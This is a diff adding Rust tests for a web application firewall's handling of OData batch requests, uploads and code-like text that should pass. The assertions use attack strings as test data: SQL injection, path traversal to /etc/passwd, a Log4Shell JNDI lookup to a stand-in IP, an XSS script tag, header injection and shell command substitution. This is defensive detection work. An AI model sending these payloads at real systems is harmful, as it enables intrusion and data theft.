@@ -2108,7 +2108,8 @@ fn class_set_walk_agrees_with_the_search_routine() {
 /// request of the benign fixtures, heads and bodies, at PL1 and PL2, leaves no set's cache
 /// cleared, and the default budget drops no cache at PL1 and at most one at PL2 (the fixtures of
 /// 2026-12-01, 16,866 requests of about a hundred product domains, need 152 MB of states at PL1
-/// and 399 MB at PL2, just over the 384 MiB default: one cache is dropped once and built again).
+/// and 399 MB at PL2, just over the 384 MiB default: one cache is dropped once and built again;
+/// with holdouts 86–88, 17,466 requests, still one drop at most).
 #[test]
 fn caches_hold_the_states_of_varied_traffic() {
     let requests = fixture_requests();
@@ -6140,6 +6141,151 @@ fn holdout83_to_85_shapes_pass_and_their_attacks_still_score() {
     ] {
         for o in as_field_and_query(&waf, v) {
             assert!(fires(&o, id) && o.blocked, "{v}: {o:?}");
+        }
+    }
+}
+
+#[test]
+fn an_odata_batch_passes_and_an_attack_in_any_of_its_requests_is_caught_and_named() {
+    // Holdouts 8 and 85: OData `$batch` bodies (`multipart/mixed` of `application/http` parts)
+    // were refused as a media type outside the list, and read whole they look like a split
+    // response (1006). Each embedded request is now inspected as a request.
+    let waf = waf_with("{}");
+    let batch = |inner: &str| {
+        format!(
+            "--b1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n{inner}\r\n--b1--\r\n"
+        )
+    };
+    let ct = "multipart/mixed; boundary=b1";
+    let ok =
+        batch("GET A_SalesOrder('4969')?$select=SalesOrder,TotalNetAmount HTTP/1.1\r\nAccept: application/json\r\n");
+    let o = post("/sap/opu/odata/sap/API_SALES_ORDER_SRV/$batch", ct, &ok, &waf);
+    assert!(!o.blocked && o.matches.is_empty(), "{o:?}");
+    let named = |o: &Outcome, target: &str| o.blocked && o.matches.iter().any(|m| m.target == target);
+    let o = post(
+        "/odata/$batch",
+        ct,
+        &batch("GET Products?$filter=Name%20eq%20'a'%20union%20select%20pwd%20from%20users-- HTTP/1.1\r\n"),
+        &waf,
+    );
+    assert!(named(&o, "batch_args:$filter") && blocked_category(&o, Category::Sqli), "{o:?}");
+    let o = post("/odata/$batch", ct, &batch("GET ../../etc/passwd HTTP/1.1\r\n"), &waf);
+    assert!(named(&o, "batch_path"), "{o:?}");
+    let o =
+        post("/odata/$batch", ct, &batch("GET Products HTTP/1.1\r\nX-Note: ${jndi:ldap://198.51.100.7/a}\r\n"), &waf);
+    assert!(named(&o, "batch_header:X-Note"), "{o:?}");
+    let json = "POST Notes HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"text\":\"<script>alert(1)</script>\"}";
+    let o = post("/odata/$batch", ct, &batch(json), &waf);
+    assert!(named(&o, "json:$.text") && blocked_category(&o, Category::Xss), "{o:?}");
+    // Content the part does not declare as a request, or hides in base64, still counts.
+    let o = post(
+        "/odata/$batch",
+        ct,
+        "--b1\r\nContent-Type: text/plain\r\n\r\nok\r\nSet-Cookie: sid=1\r\n--b1--\r\n",
+        &waf,
+    );
+    assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 1006), "{o:?}");
+    let o = post(
+        "/odata/$batch",
+        ct,
+        "--b1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: base64\r\n\r\nR0VUIC8=\r\n--b1--\r\n",
+        &waf,
+    );
+    assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 1011), "{o:?}");
+    // Another multipart subtype is still outside the list.
+    let o = post("/odata/$batch", "multipart/foo; boundary=b1", &ok, &waf);
+    assert!(o.matches.iter().any(|m| m.rule_id == 1010), "{o:?}");
+}
+
+#[test]
+fn holdout86_to_88_classes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
+
+    // `DROP` and `CREATE` before an English word are no statements (4203); before what SQL
+    // drops or creates, alone at the end, or before a comment, they still are.
+    for t in [
+        "7 pendants, smoky amber → clear gradient; drop heights 1.2m-2.4m. Budget ~£4,500",
+        "Forgot my password; create a new one for me please",
+        "Rain forecast (drop in temperature) — bring layers",
+    ] {
+        for o in as_field_and_query(&waf, t) {
+            assert!(!o.blocked && rule(&o, 4203).is_none(), "{t}: {o:?}");
+        }
+    }
+    for q in [
+        "1; drop table users",
+        "1;DROP/**/TABLE users",
+        "x'; drop database shop--",
+        "pay=;drop",
+        "1); create user eve identified by 'x'--",
+        "x'; create or replace function f() returns int as $$ select 1 $$ language sql--",
+        "1; drop if exists t",
+    ] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked && rule(&o, 4203) == Some(5), "{q}: {o:?}");
+        }
+    }
+
+    // A CSV row of ISO timestamps (`2024-06-11T05:00:00Z,…`) in an uploaded file is no header
+    // line (1006): a header's name opens with a letter. An injected header still counts.
+    let csv = "timestamp,hive,weight_kg\r\n2024-06-11T05:00:00Z,H-01,48.32\r\n2024-06-11T11:00:00Z,H-01,48.95\r\n";
+    let upload = format!(
+        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"scales.csv\"\r\nContent-Type: text/csv\r\n\r\n{csv}\r\n--b--\r\n"
+    );
+    let o = post("/hives/api/weights/import", "multipart/form-data; boundary=b", &upload, &waf);
+    assert!(!o.blocked && rule(&o, 1006).is_none(), "{o:?}");
+    for v in
+        ["x\r\nSet-Cookie: sid=1", "2024-06-11\r\nLocation: https://evil.example/", "a\r\nX-Forwarded-For: 10.0.0.1"]
+    {
+        let o = json_post(&waf, &serde_json::json!({ "v": v }).to_string());
+        assert!(o.blocked && rule(&o, 1006).is_some(), "{v:?}: {o:?}");
+    }
+
+    // A backslash between `$` and a bracket quotes the bracket: Swift's and jq's interpolation
+    // after a price (`"$\(price)"`) expands nothing in a shell (3201). `$(id)`, `\$(id)` and a
+    // backslash inside the command still count.
+    for t in [
+        r#"[.items[] | {name, label: "\(.name) - $\(.price)"}] | sort_by(-.price)"#,
+        r#"Text("Total: $\(order.total, specifier: "%.2f")")"#,
+    ] {
+        for o in as_field_and_query(&waf, t) {
+            assert!(!o.blocked && rule(&o, 3201).is_none(), "{t}: {o:?}");
+        }
+    }
+    for q in ["x$(id)", "a;echo $(c\\at /etc/hostname)", "${IFS}$(whoami)"] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked, "{q}: {o:?}");
+        }
+    }
+
+    // Git's smart HTTP requests (a code host behind the gateway) are binary, like
+    // `application/octet-stream`: no media type outside the list (1010).
+    let fetch = "0098want 7a1b2c3d4e5f60718293a4b5c6d7e8f901234567 multi_ack_detailed side-band-64k thin-pack ofs-delta agent=git/2.45.2\n00000009done\n";
+    let o = post("/acme/storefront.git/git-upload-pack", "application/x-git-upload-pack-request", fetch, &waf);
+    assert!(!o.blocked && o.matches.is_empty(), "{o:?}");
+
+    // Haskell's function types (`topK :: Int -> [String] -> …`) are no PostgreSQL casts (4212);
+    // a cast followed by arithmetic or a JSON arrow on `json`/`jsonb` still is.
+    let hs = "module Ex5 where\n\ntopK :: Int -> [String] -> [(String, Int)]\ntopK k ws = take k ws\n\nsafeDiv :: Integer -> Integer -> Maybe Integer\n";
+    for o in as_field_and_query(&waf, hs) {
+        assert!(!o.blocked && rule(&o, 4212).is_none(), "{o:?}");
+    }
+    for q in ["1'::int-1--", "x'||(select '{\"a\":1}'::jsonb->'a')||'", "1::text||chr(65)"] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Sqli), "{q}: {o:?}");
+        }
+    }
+
+    // A database's data directory is a mount point (`Mount: /var/lib/postgresql`, a Compose
+    // volume), not a file read (3001). The MySQL system schema's files and logs still are.
+    for t in ["/var/lib/postgresql", "pgdata:/var/lib/postgresql/data", "du -sh /var/lib/docker"] {
+        let o = json_post(&waf, &serde_json::json!({ "value": t }).to_string());
+        assert!(rule(&o, 3001).is_none(), "{t}: {o:?}");
+    }
+    for q in ["../../var/lib/mysql/mysql/user.MYD", "/var/log/apache2/access.log", "/etc/passwd"] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked && rule(&o, 3001) == Some(5), "{q}: {o:?}");
         }
     }
 }
